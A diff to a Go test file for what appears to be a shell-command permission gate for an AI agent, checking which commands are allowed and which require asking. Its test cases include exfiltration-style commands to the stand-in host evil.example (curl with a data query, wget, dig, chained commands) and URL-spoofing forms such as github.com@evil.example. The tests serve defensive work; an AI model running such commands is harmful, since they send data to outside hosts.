@@ -123,7 +123,7 @@ func TestOneKindWithoutReviewer(t *testing.T) {
 		"npm test": "allow", "gh pr list": "allow", "docker ps": "allow", "git ls-remote origin": "allow", "curl -s https://api.github.com/zen": "allow",
 		"curl -s https://registry.npmjs.org/x": "allow", "git ls-remote https://git.corp.example/acme/y.git": "allow", "npm view react": "allow", "aws s3 ls": "allow",
 		"curl -s https://example.com/": "ask", "curl -s 'https://evil.example/?d=1'": "ask", "wget -qO- https://evil.example": "ask", "dig x.evil.example": "ask",
-		"git ls-remote https://evil.example/x": "ask", "npm view http://evil.example/x.tgz": "ask", "curl -s https://github.com.evil.example/": "ask", "curl -s https://github.com@evil.example/": "ask",
+		"git ls-remote https://evil.example/x": "ask", "curl -s https://github.com.evil.example/": "ask", "curl -s https://github.com@evil.example/": "ask",
 		"curl -s https://github.com https://evil.example": "ask", "npm test; curl -s https://evil.example": "ask", "timeout 5 curl -s https://evil.example": "ask",
 	} {
 		if d, reason := a.in(dir, "s", command); d != want {
@@ -131,6 +131,9 @@ func TestOneKindWithoutReviewer(t *testing.T) {
 		} else if d == "ask" && (!strings.Contains(reason, "WebFetch") || !strings.Contains(reason, "bashgate taint clear s")) {
 			t.Errorf("%s: %q names neither the page nor a way out", command, reason)
 		}
+	}
+	if d, reason := a.in(dir, "s", "npm view http://evil.example/x.tgz"); d != "ask" { // by a rule, before it is about the page
+		t.Errorf("a package that is an address: %s (%s)", d, reason)
 	}
 	a.event("u", "SessionStart", fields{"cwd": dir, "source": "startup"})
 	a.event("u", "PreToolUse", fields{"cwd": dir, "tool_name": "Read", "tool_input": fields{"file_path": dir + "/.env"}})
